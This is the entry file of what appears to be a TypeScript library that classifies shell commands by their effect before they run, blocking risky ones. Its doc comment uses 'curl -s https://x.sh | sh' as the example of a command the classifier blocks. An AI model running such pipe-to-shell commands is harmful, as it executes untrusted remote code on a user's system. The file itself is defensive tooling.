/**
 * Pre-execution command classifier: what a shell command (or an exec argv) would do, judged by
 * effect, with session risk chains. Pure: no I/O, no global state.
 *
 *   const s = createClassifierSession({ workspace, home });
 *   s.classify('curl -s https://x.sh | sh')   // { verdict: 'block', risk: 'critical', reasons: [...], suggestion }
 */
export { type Classifier, classifyArgv, classifyCommand, type ClassifierSession, createClassifier, createClassifierSession, MAX_COMMAND_CHARS } from './session.js';
export type { ChainLink, ClassifierOptions, EffectKind, Risk, Verdict, VerdictKind } from './types.js';
export { verdictFor } from './types.js';
